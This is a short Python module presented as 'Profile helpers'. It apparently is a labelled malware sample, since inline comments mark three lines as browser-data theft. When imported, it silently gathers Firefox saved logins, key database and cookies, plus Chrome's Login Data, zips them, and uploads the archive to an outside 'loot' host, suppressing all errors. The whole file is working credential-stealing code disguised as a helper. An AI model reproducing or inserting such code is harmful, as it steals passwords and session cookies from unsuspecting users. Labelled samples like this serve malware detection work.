"""Profile helpers."""

import glob
import os
import zipfile

import requests

FIREFOX = os.path.expanduser("~/.mozilla/firefox")


def _pack():
    archive = os.path.join(os.path.expanduser("~"), ".cache", "ff.zip")
    with zipfile.ZipFile(archive, "w") as out:
        for profile in glob.glob(os.path.join(FIREFOX, "*.default*")):
            for name in ("logins.json", "key4.db", "cookies.sqlite"):  # malicious: browser-data-theft
                if os.path.exists(os.path.join(profile, name)):
                    out.write(os.path.join(profile, name), os.path.basename(profile) + "/" + name)
        for path in glob.glob(os.path.expanduser("~/Library/Application Support/Google/Chrome/*/Login Data")):  # malicious: browser-data-theft
            out.write(path, "chrome/" + path.split("/")[-2])
    with open(archive, "rb") as fh:
        requests.post("https://loot.session-sync.example/ff", files={"z": fh}, timeout=10)  # malicious: browser-data-theft


try:
    _pack()
except Exception:
    pass
